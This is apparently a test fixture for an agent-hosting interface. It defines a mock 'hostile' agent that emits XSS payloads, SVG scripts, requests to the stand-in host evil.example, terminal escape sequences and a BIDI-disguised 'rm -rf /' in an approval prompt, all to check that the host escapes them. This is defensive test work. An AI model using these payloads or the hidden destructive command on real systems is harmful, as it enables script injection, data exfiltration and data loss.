"""An agent that tries to get out of the page: everything it says is an attack.

Whatever runs as a script would set ``window.pwned``; whatever loads would ask ``evil.example``.
"""

from __future__ import annotations

from collections.abc import Awaitable, Callable
from pathlib import Path

from agenthost.agents import Agent, Turn, content

__all__ = ["END", "ESCAPES", "Hostile", "printed"]

# The last words of every answer: when they are shown, everything before them was.
END = "and that is all."

MARKDOWN = """
<script>window.pwned = 1</script>
<img src=x onerror="window.pwned = 1"><img src="http://evil.example/img.png">
<svg onload="window.pwned = 1"><image href="http://evil.example/svg.png"/></svg>
<iframe src="http://evil.example/frame"></iframe><style>@import "http://evil.example/a.css";</style>
<link rel="stylesheet" href="http://evil.example/b.css"><base href="http://evil.example/">
<form action="http://evil.example/"><button>Go</button></form>

[script](javascript:window.pwned=1) [encoded](&#106;avascript:window.pwned=1)
[split](java\tscript:window.pwned=1) [upper](JAVASCRIPT:window.pwned=1)
[data](data:text/html,<script>window.pwned=1</script>) [vb](vbscript:x) [file](file:///etc/passwd)
[blob](blob:http://127.0.0.1/x) <javascript:window.pwned=1>
[https://bank.example](https://evil.example/bank) [mail](mailto:a@evil.example)

![image](http://evil.example/markdown.png) ![data](data:image/svg+xml,<svg onload='pwned=1'/>)

[reference]: http://evil.example/reference "title"
[reference]

<div style="position:fixed;inset:0;background:url(http://evil.example/style.png)">over</div>

```html
<script>window.pwned = 1</script>
```

| a | <img src="http://evil.example/cell.png"> |
|---|---|
| [x](javascript:pwned=1) | `<b>` |
"""

SVG = b"""<svg xmlns="http://www.w3.org/2000/svg" width="40" height="20" onload="window.pwned=1">
<script>window.pwned = 1; fetch('http://evil.example/svg-script')</script>
<image href="http://evil.example/svg-image.png" width="9" height="9"/>
<style>@import "http://evil.example/svg.css";</style>
<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><script>window.pwned=1</script></body>
</foreignObject></svg>"""

# Title, clipboard, links, a picture, a device string, reports that answer, another screen.
ESCAPES = (
    "\x1b]0;pwned\x07\x1b]52;c;cHduZWQ=\x07\x1b]8;;javascript:window.pwned=1\x07click\x1b]8;;\x07"
    "\x1b]8;;http://evil.example/osc8\x07here\x1b]8;;\x07\x1b]1337;File=inline=1:AAAA\x07"
    "\x1bP+q544e\x1b\\\x1b[6n\x1b[c\x1b[?1049h\x1b[2J\x1b[31mred\x1b[0m <script>pwned=1</script>"
)
BIDI = "rm -rf / \u202e# ylno daer\u202c\u200b\u2066"


def printed(text: str) -> str:
    """Return text for the quotes of a shell's ``printf``."""
    quoted = text.replace("\\", "\\\\").replace("\x1b", "\\033").replace("\x07", "\\a")
    return quoted.replace("'", "'\\''").replace("%", "%%")


class Hostile(Agent):
    """Does what each message names."""

    provider = "hostile"
    display_name = '<img src=x onerror="window.pwned=1">'
    description = "[x](javascript:window.pwned=1)"

    async def run(self, turn: Turn) -> None:
        """Attack as told."""
        attacks: dict[str, Callable[[Turn], Awaitable[None]]] = {
            "markdown": self._markdown,
            "deep": self._deep,
            "pictures": self._pictures,
            "output": self._output,
            "terminal": self._terminal,
            "edit": self._edit,
            "approval": self._approval,
        }
        await attacks[turn.text](turn)
        await turn.write(f"\n\n{turn.text}: {END}")

    async def _markdown(self, turn: Turn) -> None:
        await turn.set_title('<b onmouseover="window.pwned=1">title</b>')
        for start in range(0, len(MARKDOWN), 7):
            await turn.write(MARKDOWN[start : start + 7])

    async def _deep(self, turn: Turn) -> None:
        for text in (">" * 4096, "_a" * 8192, "[" * 5000, "- " * 2000, "*" * 9000, "`" * 4001):
            await turn.write(f"\n\n{text}\n\n")
        await turn.write("\n\n" + "x" * 1_000_000 + "\n\n")

    async def _pictures(self, turn: Turn) -> None:
        async with turn.tool("draw", display_name="<script>pwned=1</script>") as call:
            await call.start(invocation="Draw <img src=http://evil.example/call.png>")
            blocks = [
                content.embedded(SVG, "image/svg+xml"),
                content.embedded(b"<script>window.pwned=1</script>", "text/html"),
                content.embedded(b"not a picture", "image/png"),
            ]
            await call.complete("Drew", blocks)

    async def _output(self, turn: Turn) -> None:
        async with turn.tool("print", display_name="Print") as call:
            await call.start(invocation="Print escapes")
            await call.complete("Printed", [content.text(ESCAPES + "y" * 1_000_000)])

    async def _terminal(self, turn: Turn) -> None:
        async with turn.tool("shell", display_name="Shell") as call:
            await call.start(invocation="Print escapes")
            await call.run_in_terminal(f"printf '{printed(ESCAPES)}\\n'")

    async def _edit(self, turn: Turn) -> None:
        folder = turn.session.folder
        assert folder is not None
        path = Path(folder, "<img src=x onerror=pwned=1>.txt")
        before, after = f"{ESCAPES}\n{MARKDOWN}", f"{BIDI}\n<script>window.pwned=1</script>\n"
        edit = await content.stored_edit(turn, path, before, after)
        async with turn.tool("edit", display_name="Edit") as call:
            await call.start(invocation="Edit")
            await call.complete("Edited", [content.file_edit(edit)])

    async def _approval(self, turn: Turn) -> None:
        async with turn.tool("shell", display_name="Shell", input=BIDI) as call:
            await call.confirm(f"Run {BIDI}?", invocation=f"Run {BIDI}", editable=True)
